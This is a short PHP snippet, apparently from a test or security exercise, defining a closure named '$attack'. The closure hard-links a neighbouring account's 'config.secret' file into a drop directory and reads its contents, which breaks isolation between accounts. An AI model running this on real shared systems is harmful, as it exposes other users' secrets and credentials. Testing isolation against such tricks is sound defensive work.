<?php
$attack = static function (object $given): mixed {
    $link = "{$given->drop}/hard";
    link("{$given->neighbour}/config.secret", $link);
    return file_get_contents($link);
};
